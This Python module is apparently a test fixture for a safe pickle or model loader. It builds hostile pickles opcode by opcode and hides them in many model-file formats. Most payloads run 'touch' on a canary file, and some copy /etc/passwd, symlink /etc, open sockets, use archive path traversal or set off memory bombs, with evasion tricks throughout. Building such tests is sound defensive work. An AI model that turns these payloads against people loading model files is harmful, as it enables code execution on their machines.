"""Pickles that run code when they are loaded without care, in many shapes and in many kinds of file.

Nothing here is read by name: pickles are put together opcode by opcode, since `pickle.dumps` writes few of the shapes.
A live payload, loaded with the plain `pickle`, makes a file, the canary; `hostile_reader.py live` proves that it does.
"""

# ruff: noqa: E501 - tables of payloads

from __future__ import annotations

import gzip
import io
import marshal
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple


class Payload(NamedTuple):
    """A pickle; `live`: the plain pickle module runs it and the canary appears."""

    name: str
    data: bytes
    live: bool = True


# ------------------------------------------------------------------------------------------------------- an assembler


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(value: str) -> bytes:
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def blob(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stacked(module: str, name: str) -> bytes:
    return short(module) + short(name) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def items(*values: bytes) -> bytes:
    return b"](" + b"".join(values) + b"e"


def pickled(body: bytes, protocol: int = 3) -> bytes:
    return (b"\x80" + bytes([protocol]) if protocol > 1 else b"") + body + b"."


# ------------------------------------------------------------------------------------------- what is called, by REDUCE


def calls(canary: str, folder: Path) -> Iterator[Payload]:
    """Ways to do harm with one call or a few."""
    command, code = f"touch {canary}", f"open({canary!r}, 'w').close()"
    script, module = folder / "evil_script.py", folder / "evil_canary_module.py"
    script.write_text(code)
    module.write_text(code)
    system, os_module = named("os", "system"), call(named("importlib", "import_module"), text("os"))
    touch = items(text("touch"), text(canary))
    function = compile(code, "<payload>", "exec")
    bodies = {
        "os.system": call(system, text(command)),
        "posix.system": call(named("posix", "system"), text(command)),
        "os.mkdir": call(named("os", "mkdir"), text(canary)),
        "os.makedirs": call(named("os", "makedirs"), text(canary)),
        "os.open": call(named("os", "open"), text(canary), number(0o101)),
        "os.mknod": call(named("os", "mknod"), text(canary)),
        "os.symlink": call(named("os", "symlink"), text("/etc"), text(canary)),
        "os.popen": call(named("operator", "methodcaller"), text("read")) + b"(" + call(named("os", "popen"), text(command)) + b"tR",
        "os.spawnlp": call(named("os", "spawnlp"), number(0), text("touch"), text("touch"), text(canary)),
        "subprocess.getoutput": call(named("subprocess", "getoutput"), text(command)),
        "subprocess.call": call(named("subprocess", "call"), touch),
        "subprocess.run": call(named("subprocess", "run"), touch),
        "subprocess.check_output": call(named("subprocess", "check_output"), touch),
        "builtins.eval": call(named("builtins", "eval"), text(code)),
        "builtins.exec": call(named("builtins", "exec"), text(code)),
        "builtins.open": call(named("builtins", "open"), text(canary), text("w")),
        "io.open": call(named("io", "open"), text(canary), text("w")),
        "_io.FileIO": call(named("_io", "FileIO"), text(canary), text("w")),
        "shutil.copy": call(named("shutil", "copy"), text("/etc/passwd"), text(canary)),
        "logging.FileHandler": call(named("logging", "FileHandler"), text(canary)),
        "zipfile.ZipFile": call(named("zipfile", "ZipFile"), text(canary), text("w")),
        "tarfile.open": call(named("tarfile", "open"), text(canary), text("w")),
        "gzip.open": call(named("gzip", "open"), text(canary), text("wb")),
        "sqlite3.connect": call(named("sqlite3", "connect"), text(canary)),
        "runpy.run_path": call(named("runpy", "run_path"), text(str(script))),
        "importlib.import_module": call(named("importlib", "import_module"), text("evil_canary_module")),
        "builtins.__import__": call(named("builtins", "__import__"), text("evil_canary_module")),
        "cProfile.run": call(named("cProfile", "run"), text(code)),
        "profile.run": call(named("profile", "run"), text(code)),
        "timeit.main": call(named("timeit", "main"), items(text("-n1"), text("-r1"), text(code))),
        "methodcaller": call(call(named("operator", "methodcaller"), text("system"), text(command)), os_module),
        "getattr": call(call(named("builtins", "getattr"), os_module, text("system")), text(command)),
        "attrgetter": call(call(call(named("operator", "attrgetter"), text("system")), os_module), text(command)),
        "partial": call(call(named("functools", "partial"), system, text(command))),
        "map": call(named("collections", "deque"), call(named("builtins", "map"), system, items(text(command)))),
        "starmap": call(
            named("builtins", "list"), call(named("itertools", "starmap"), system, items(b"(" + text(command) + b"t"))
        ),
        "reduce of reduce": call(named("functools", "reduce"), named("builtins", "eval"), items(text(code), b"}")),
        "marshal": call(call(named("types", "FunctionType"), call(named("marshal", "loads"), blob(marshal.dumps(function))), call(named("builtins", "globals")))),
        "pickle.loads": call(named("pickle", "loads"), blob(pickled(call(system, text(command))))),
        "_pickle.loads": call(named("_pickle", "loads"), blob(pickled(call(system, text(command))))),
        "torch.save": call(named("torch", "save"), number(1), text(canary)),
        "torch.utils.collect_env.run": call(named("torch.utils.collect_env", "run"), text(command)),
        "numpy.save": call(named("numpy", "memmap"), text(canary), text("uint8"), text("w+"), number(0), b"(" + number(4) + b"t"),
        "threading.Timer": call(call(named("operator", "methodcaller"), text("run")), call(named("threading", "Timer"), number(0), system, items(text(command)))),
    }  # fmt: skip
    for name, body in bodies.items():
        yield Payload(name, pickled(body))
    yield Payload("__builtin__.eval", pickled(call(named("__builtin__", "eval"), text(code)), 2))  # Python 2's name
    dead = {
        "ctypes.CDLL": call(named("ctypes", "CDLL"), text("libc.so.6")),
        "socket": call(named("socket", "create_connection"), b"(" + text("127.0.0.1") + number(9) + b"t"),
        "urlopen": call(named("urllib.request", "urlopen"), text("file:///etc/passwd")),
        "torch.load": call(named("torch", "load"), text(str(script))),
        "torch.hub.load": call(named("torch.hub", "load"), text("x/y"), text("z")),
        "bytearray bomb": call(named("builtins", "bytearray"), b"\x8a\x05" + (10**11).to_bytes(5, "little")),
        "Tensor bomb": call(named("torch", "Tensor"), number(10**6), number(10**6)),
        "FloatTensor bomb": call(named("torch", "FloatTensor"), number(10**6), number(10**6)),
        "add_safe_globals": call(named("torch.serialization", "add_safe_globals"), items(system)),
        "device": call(named("torch", "device"), text("cuda:0")),
        "Module": call(named("torch.nn.modules.linear", "Linear"), number(2), number(2)),
        "no such module": call(named("no_such_module", "x")),
    }
    for name, body in dead.items():
        yield Payload(name, pickled(body), live=False)


# ----------------------------------------------------------------------------------------- how it is called, and where

STORAGE = b"(" + text("storage") + named("torch", "FloatStorage") + text("0") + text("cpu") + number(1) + b"t"
ORDERED = named("collections", "OrderedDict") + b")R"


def rebuilt(storage: bytes, hooks: bytes = ORDERED) -> bytes:
    size = b"(" + number(1) + b"t"
    return call(named("torch._utils", "_rebuild_tensor_v2"), storage, number(0), size, size, b"\x89", hooks)


def shapes(canary: str) -> Iterator[Payload]:
    """One call of `os.system`, by every opcode that calls and from every place of a state dictionary."""
    command = f"touch {canary}"
    run, line = call(named("os", "system"), text(command)), f"S{command!r}\n".encode()
    for protocol in range(6):
        yield Payload(f"REDUCE, protocol {protocol}", pickled(named("os", "system") + b"(" + line + b"tR", protocol))
    modern = stacked("os", "system") + short(command) + b"\x85R"
    framed = b"\x95" + struct.pack("<Q", len(modern) + 1) + modern
    memoized = short("os") + b"\x94" + short("system") + b"\x94" + b"00" + b"h\x00h\x01\x93" + short(command) + b"\x85R"
    yield Payload("STACK_GLOBAL, protocol 4", pickled(modern, 4))
    yield Payload("STACK_GLOBAL, protocol 5", pickled(modern, 5))
    yield Payload("STACK_GLOBAL in a protocol 2 pickle", pickled(modern, 2))
    yield Payload("FRAME", pickled(framed, 4))
    yield Payload("STACK_GLOBAL from the memo", pickled(memoized, 4))
    yield Payload("INST", pickled(b"(" + line + b"ios\nsystem\n", 0))
    yield Payload("OBJ", pickled(b"(" + named("os", "system") + line + b"o", 1))
    yield Payload(
        "OBJ of a class", pickled(b"(" + named("subprocess", "Popen") + items(text("touch"), text(canary)) + b"o", 1)
    )
    state = b"}" + text("__setstate__") + named("os", "system") + b"s"
    yield Payload("BUILD", pickled(named("argparse", "Namespace") + b")R" + state + b"b" + text(command) + b"b"))
    yield Payload(
        "BUILD after NEWOBJ", pickled(named("argparse", "Namespace") + b")\x81" + state + b"b" + text(command) + b"b")
    )
    yield Payload(
        "BUILD after NEWOBJ_EX",
        pickled(named("argparse", "Namespace") + b")}\x92" + state + b"b" + text(command) + b"b", 4),
    )
    yield Payload("BUILD of an OrderedDict", pickled(ORDERED + state + b"b" + text(command) + b"b"))
    yield Payload("NEWOBJ", pickled(named("subprocess", "Popen") + b"(" + items(text("touch")) + b"t\x81"), live=False)
    for opcode in (b"\x82\x01", b"\x83\x01\x00", b"\x84\x01\x00\x00\x00"):
        yield Payload(f"EXT {opcode.hex()}", pickled(opcode + b")R"), live=False)
    yield Payload("PERSID", pickled(b"Pstorage\n", 0), live=False)
    yield Payload("dictionary's value", pickled(b"}" + text("w") + run + b"s"))
    yield Payload("dictionary's key", pickled(b"}" + run + text("w") + b"s"))
    yield Payload("SETITEMS", pickled(b"}(" + text("w") + run + b"u"))
    yield Payload("list", pickled(items(run)))
    yield Payload("APPEND", pickled(b"]" + run + b"a"))
    yield Payload("tuple", pickled(run + b"\x85"))
    yield Payload("set", pickled(b"\x8f(" + run + b"\x90", 4))
    yield Payload("frozenset", pickled(b"(" + run + b"\x91", 4))
    yield Payload("OrderedDict's value", pickled(ORDERED + text("w") + run + b"s"))
    yield Payload("argument of a tensor", pickled(rebuilt(run)))
    yield Payload("hooks of a tensor", pickled(b"}" + text("w") + rebuilt(STORAGE + b"0N", run) + b"s"))
    yield Payload("persistent identifier", pickled(run + b"0" + STORAGE + b"0N"))
    yield Payload("inside a persistent identifier", pickled(b"(" + text("storage") + run + b"tQ"))
    yield Payload("state of an OrderedDict", pickled(ORDERED + b"}" + text("_metadata") + run + b"sb"))
    yield Payload("hidden by POP", pickled(run + b"0}"))
    yield Payload("hidden by POP_MARK", pickled(b"(" + run + b"1}"))
    yield Payload("hidden by DUP", pickled(run + b"200}"))
    yield Payload("from the memo", pickled(named("os", "system") + b"q\x07" + b"0h\x07" + b"(" + text(command) + b"tR"))
    yield Payload(
        "from the long memo", pickled(named("os", "system") + b"r\x07\0\0\x000j\x07\0\0\0(" + text(command) + b"tR")
    )
    yield Payload("from the text memo", pickled(named("os", "system") + b"p7\n0g7\n(" + line + b"tR", 0))
    yield Payload("second after STOP", pickled(b"}") + pickled(run), live=False)
    yield Payload(
        "BINSTRING",
        pickled(named("os", "system") + b"T" + struct.pack("<I", len(command)) + command.encode() + b"\x85R"),
    )
    yield Payload("UNICODE", pickled(named("os", "system") + b"V" + command.encode() + b"\n\x85R", 0))
    yield Payload(
        "BINUNICODE8",
        pickled(named("os", "system") + b"\x8d" + struct.pack("<Q", len(command)) + command.encode() + b"\x85R", 4),
    )
    yield Payload(
        "BYTEARRAY8",
        pickled(
            named("os", "system")
            + b"\x96"
            + struct.pack("<Q", len(command))
            + command.encode()
            + b"0"
            + text(command)
            + b"\x85R",
            5,
        ),
    )
    yield Payload("NEXT_BUFFER", pickled(b"\x97", 5), live=False)
    yield Payload("two PROTO", b"\x80\x02" + pickled(run, 2))
    yield Payload("no PROTO", pickled(run, 0))
    yield Payload("protocol 255", b"\x80\xff" + run + b".", live=False)
    yield Payload("cut short", pickled(run)[:-1])


# --------------------------------------------------------------------------------------------------- in which file

Writer = Callable[[Path], object]


def archive(
    path: Path, members: list[tuple[str, bytes]], *, compression: int = zipfile.ZIP_STORED, prefix: bytes = b""
) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as file, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of two members of one name
        for name, data in members:
            file.writestr(zipfile.ZipInfo(name) if compression == zipfile.ZIP_STORED else name, data)
    path.write_bytes(prefix + buffer.getvalue())


def wrapped(data: bytes, benign: bytes, folder: Path) -> dict[str, Writer]:
    """One hostile pickle in every kind of file that some loader somewhere opens; `benign`: a good pickle."""
    good = [
        ("archive/data.pkl", benign),
        ("archive/version", b"3\n"),
        ("archive/data/0", bytes(4)),
        ("archive/byteorder", b"little"),
    ]
    evil = [("archive/data.pkl", data), *good[1:]]
    magic = pickled(b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19", 2)
    legacy = [magic, pickled(number(1001), 2), pickled(b"}", 2), benign, pickled(b"]", 2)]
    header = b'{"w":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'
    tensors = len(header).to_bytes(8, "little") + header + bytes(4)

    def local_name(path: Path) -> None:
        archive(path, [("archive/data.pkX", benign), *good[1:]])
        raw = path.read_bytes()
        end = raw.rindex(b"archive/data.pkX")
        path.write_bytes(raw[:end] + b"archive/data.pkl" + raw[end + 16 :])

    def encrypted(path: Path) -> None:
        archive(path, evil)
        raw = bytearray(path.read_bytes())
        raw[raw.index(b"PK\x01\x02") + 8] |= 1
        path.write_bytes(raw)

    def tar(path: Path) -> None:
        with tarfile.open(path, "w", format=tarfile.USTAR_FORMAT) as file:
            for name in ("storages", "tensors", "pickle"):
                file.addfile(tarfile.TarInfo(name), io.BytesIO(b""))
                member = tarfile.TarInfo(name)
                member.size = len(data)
                file.addfile(member, io.BytesIO(data))

    def distributed(path: Path) -> None:
        path.mkdir()
        (path / ".metadata").write_bytes(data)
        (path / "__0_0.distcp").write_bytes(bytes(10))

    def array(path: Path) -> None:
        head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
        head += b" " * (53 - len(head) % 64) + b"\n"
        path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + data)

    writers: dict[str, Writer] = {
        f"bare{end}": lambda p: p.write_bytes(data) for end in ("", ".pt", ".pth", ".bin", ".safetensors")
    }
    writers |= {f"zip{end}": lambda p: archive(p, evil) for end in (".pt", ".pth", ".safetensors", ".zip")}
    writers |= {
        f"legacy-{i}.pth": lambda p, i=i: p.write_bytes(b"".join([*legacy[:i], data, *legacy[i + 1 :]]))
        for i in range(5)
    }  # type: ignore[misc]
    writers |= {
        "several.pth": lambda p: archive(p, [*good, ("archive/evil.pkl", data)]),
        "constants.pth": lambda p: archive(p, [*good, ("archive/constants.pkl", data)]),
        "script.pth": lambda p: archive(p, [*evil, ("archive/code/__torch__.py", b"import os"), ("archive/constants.pkl", data)]),
        "twice.pth": lambda p: archive(p, [*good, ("archive/data.pkl", data)]),
        "twice-first.pth": lambda p: archive(p, [("archive/data.pkl", data), *good]),
        "two-roots.pth": lambda p: archive(p, [*good, ("other/data.pkl", data)]),
        "no-root.pth": lambda p: archive(p, [("data.pkl", data)]),
        "climbing.pth": lambda p: archive(p, [*good, ("archive/data/../data.pkl", data), ("../evil.pkl", data)]),
        "backslash.pth": lambda p: archive(p, [*good, ("archive\\data.pkl", data)]),
        "case.pth": lambda p: archive(p, [*good, ("archive/DATA.PKL", data)]),
        "deflated.pth": lambda p: archive(p, evil, compression=zipfile.ZIP_DEFLATED),
        "encrypted.pth": encrypted,
        "local-name.pth": local_name,
        "byteorder.pth": lambda p: archive(p, [*good[:3], ("archive/byteorder", data)]),
        "polyglot-script.pth": lambda p: archive(p, evil, prefix=b"#!/bin/sh\n"),
        "polyglot-pickle.pth": lambda p: archive(p, good, prefix=data),
        "polyglot-tensors.safetensors": lambda p: archive(p, evil, prefix=tensors),
        "tensors-then-pickle.safetensors": lambda p: p.write_bytes(tensors + data),
        "pickle-as-header.safetensors": lambda p: p.write_bytes(len(data).to_bytes(8, "little") + data),
        "tar.pth": tar,
        "tar.safetensors": tar,
        "distributed": distributed,
        "array.npy": array,
        "arrays.npz": lambda p: (array(folder / "inner"), archive(p, [("a.npy", (folder / "inner").read_bytes())])),
        "gzip.pth": lambda p: p.write_bytes(gzip.compress(data)),
    }  # fmt: skip
    return writers
